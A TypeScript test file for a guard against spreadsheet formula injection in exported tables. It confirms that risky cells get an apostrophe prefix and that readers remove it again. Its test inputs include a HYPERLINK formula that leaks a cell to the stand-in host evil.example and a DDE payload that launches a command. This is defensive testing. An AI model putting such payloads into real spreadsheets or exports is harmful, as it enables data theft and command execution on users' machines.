import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readValues } from '#domain/search/value-list';
import { guardFormula } from '#domain/text/formula-guard';
import { unguardFormula } from '#domain/text/unguard-formula';
import { tableRows } from '#domain/text/read-table';
import { toTsv } from '#domain/text/tsv';

describe('cells of tables for people', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&B2,"open")'],
    ['+1+1'],
    ['-1+1'],
    ['-2 to 3'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\rtext'],
    [' =1+1'],
    ['"=1+1"'],
    ["=cmd|' /C calc'!A0"],
    ['-GAPPED'],
    ['--'],
    ['-1,5'],
  ])('SEC-01 free text that a spreadsheet takes for a formula is preceded by an apostrophe: %j', (text) => {
    expect(guardFormula(text)).toBe(`'${text}`);
    expect(unguardFormula(guardFormula(text))).toBe(text.trim());
  });

  it.each([
    '',
    '+',
    '-',
    '-1',
    '+0.5',
    '-1.5e-10',
    '-.5',
    "5'-ACG-3'",
    "'quoted'",
    'a=b',
    '1-2',
    'HLA-A*02:01',
    '#1',
    '−2',
  ])('SEC-01 numbers, signs of strands and other text are unchanged: %j', (text) => {
    expect(guardFormula(text)).toBe(text);
    expect(unguardFormula(text)).toBe(text);
  });

  it('SEC-01 readers of tables and of values take the apostrophe off again', () => {
    const cell = fc.string({ unit: fc.constantFrom(..."=+-@'#a1.(,;") });
    const rows = fc.array(fc.tuple(cell, cell), { minLength: 1 });
    fc.assert(
      fc.property(rows, (given) => {
        const text = toTsv({ columns: ['=a', '-b'], rows: given });
        const read = [...tableRows(text, '\t')].map(({ cells }) => cells);
        const trimmed = given.map((cells) => cells.map((each) => each.trim()));
        expect(read).toEqual([['=a', '-b'], ...trimmed.filter((cells) => cells.some((each) => each !== ''))]);
      }),
    );
    expect(readValues("'=NAME, '-AS1, '@x")).toEqual(['=NAME', '-AS1', '@x']);
    expect(readValues("'-AS1', 5'UTR")).toEqual(['-AS1', "5'UTR"]);
  });
});
